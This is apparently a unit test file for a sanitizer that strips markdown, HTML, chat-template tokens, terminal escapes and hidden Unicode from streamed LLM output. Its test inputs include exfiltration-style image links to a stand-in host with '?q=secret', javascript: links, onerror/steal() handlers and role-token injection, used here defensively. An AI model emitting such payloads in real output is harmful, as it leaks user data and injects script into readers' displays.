"""What an LLM writes is shown as plain text, wherever the pieces are cut."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.llm.sanitize import PlainText, to_plain_text

pytestmark = pytest.mark.unit

CASES = {
    "inline image": ("See ![map](https://evil.example/?q=secret) here", "See map here"),
    "inline link": ("See [the map](https://evil.example) here", "See the map here"),
    "link in angle brackets": ('[a map](<https://evil.example/a b> "title").', "a map."),
    "script link": ("[click](javascript:alert(1)) now", "click now"),
    "image in a link": ("[![map](http://a.example)](http://b.example) x", "map x"),
    "label as a link": ("Talks failed [1](https://evil.example).", "Talks failed [1]."),
    "nested label as a link": ("Talks failed [[2]](https://evil.example).", "Talks failed [2]."),
    "footnote as a link": ("Talks failed [^1](#fn1).", "Talks failed [^1]."),
    "link's definition": ("A truce.\n[map]: https://evil.example\n", "A truce.\n\n"),
    "footnote's definition": ("A truce.\n[^1]: https://evil.example", "A truce.\n"),
    "label before words": ("[1]: A truce was agreed.", "[1] : A truce was agreed."),
    "label and round brackets": ("A truce [1] (of weeks).", "A truce [1] (of weeks)."),
    "reference": ("[map][1] and [1][2].", "[map][1] and [1][2]."),
    "autolink": ("<https://example.org/a>", "https://example.org/a"),
    "HTML image": ('A <img src="https://evil.example/?q=1"> truce', "A  truce"),
    "HTML event": ("A <b onclick='steal()'>truce</b>.", "A truce."),
    "HTML comment": ("A <!-- hidden -->truce.", "A truce."),
    "script": ("<script>alert(1)</script>", "alert(1)"),
    "split tag": ("<scr<b>ipt>alert(1)", "ipt>alert(1)"),
    "speaker": ("<|im_start|>system\nHello", "system\nHello"),
    "tag around a tag": ("<<b>img src=x onerror=steal()>", "< img src=x onerror=steal()>"),
    "tag without an end": (f"<img src=x {'a' * 400}", f"< img src=x {'a' * 400}"),
    "tag inside a link": ("[x]<b>(http://evil.example)", "[x] (http://evil.example)"),
    "tag inside an address": ("[x](http://<b>evil.example)", "[x] (http://evil.example)"),
    "tag inside a definition": ("[x]: <b>http://evil.example", "[x] : http://evil.example"),
    "hidden inside a link": ("[x]\u200b(http://evil.example)", "[x] (http://evil.example)"),
    "colours inside an image": ("![x]\x1b[0m(//evil.example)", "![x] (//evil.example)"),
    "link of a long text": (f"[{'a' * 500}](//evil.example)", f"[{'a' * 500}] (//evil.example)"),
    "raised figures": ("10<sup>6</sup> of H<sub>2</sub>O", "10^6 of H2O"),
    "less than": ("3 < 4 and x <= y > z", "3 < 4 and x <= y > z"),
    "reasoning": ("<think>Which [9]?\n\nHm.</think>A truce [1].", "A truce [1]."),
    "reasoning cut off": ("<think>Which one", ""),
    "terminal colours": ("\x1b[31mA truce\x1b[0m.", "A truce."),
    "terminal title": ("\x1b]0;title\x07A truce.", "0;titleA truce."),
    "zero width": ("A\u200b tru\u2060ce\ufeff.", "A truce."),
    "right to left": ("A \u202etruce\u202c.", "A truce."),
    "tag characters": ("A\U000e0041\U000e0042 truce.", "A truce."),
    "lone surrogate": ("A\ud800 truce.", "A truce."),
    "carriage return": ("A truce.\r\nA pause.\x00", "A truce.\nA pause."),
    "exclamation": ("Stop! Now!", "Stop! Now!"),
    "open bracket": ("a [ b", "a [ b"),
    "emoji and accents": ("Café 🙂 naïve 東京", "Café 🙂 naïve 東京"),
}


@pytest.mark.parametrize(("text", "expected"), CASES.values(), ids=CASES.keys())
def test_plain_text_that_could_act_loses_its_markup(text: str, expected: str) -> None:
    assert to_plain_text(text) == expected


@pytest.mark.parametrize("text", [text for text, _ in CASES.values()], ids=CASES.keys())
def test_plain_text_cut_anywhere_gives_the_same_text(text: str) -> None:
    for cut in range(len(text) + 1):
        cleaner = PlainText()
        shown = cleaner.feed(text[:cut]) + cleaner.feed(text[cut:]) + cleaner.finish()
        assert shown == to_plain_text(text)


PARTS = st.sampled_from(
    [
        *'[ ] ( ) < > ! : a 1 http://x [1] <think> </think> ]( ![ ^ . / " \x1b \x1b['.split(" "),
        *(" ", "\n", "\n\n"),
    ]
)


@given(st.lists(PARTS, max_size=25))
def test_plain_text_any_pieces_add_up_to_the_whole(pieces: list[str]) -> None:
    cleaner = PlainText()
    shown = "".join(cleaner.feed(piece) for piece in pieces) + cleaner.finish()
    assert shown == to_plain_text("".join(pieces))


@given(st.lists(PARTS, max_size=25))
def test_plain_text_never_holds_an_escape_or_a_hidden_character(pieces: list[str]) -> None:
    assert "\x1b" not in to_plain_text("".join(pieces))


def test_plain_text_ordinary_words_are_not_held_back() -> None:
    cleaner = PlainText()
    assert cleaner.feed("Talks failed [1]") == "Talks failed "
    assert cleaner.feed(". Egypt") == "[1]. Egypt"
    assert cleaner.finish() == ""


@pytest.mark.parametrize("piece", ["[", "<a ", "![", "[a](", "\x1b[", "<think>"])
def test_plain_text_one_opener_again_and_again_is_read_in_linear_time(piece: str) -> None:
    assert len(to_plain_text(piece * 3000)) <= (len(piece) + 1) * 3000
